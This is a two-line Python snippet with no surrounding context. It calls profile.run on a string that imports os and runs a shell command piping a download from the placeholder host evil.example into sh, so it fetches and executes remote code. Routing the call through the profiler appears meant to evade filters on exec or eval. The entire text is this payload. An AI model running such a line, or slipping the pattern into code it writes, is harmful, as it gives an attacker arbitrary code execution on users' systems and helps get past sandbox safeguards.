import profile
profile.run("__import__('os').system('curl -s https://evil.example/x | sh')")
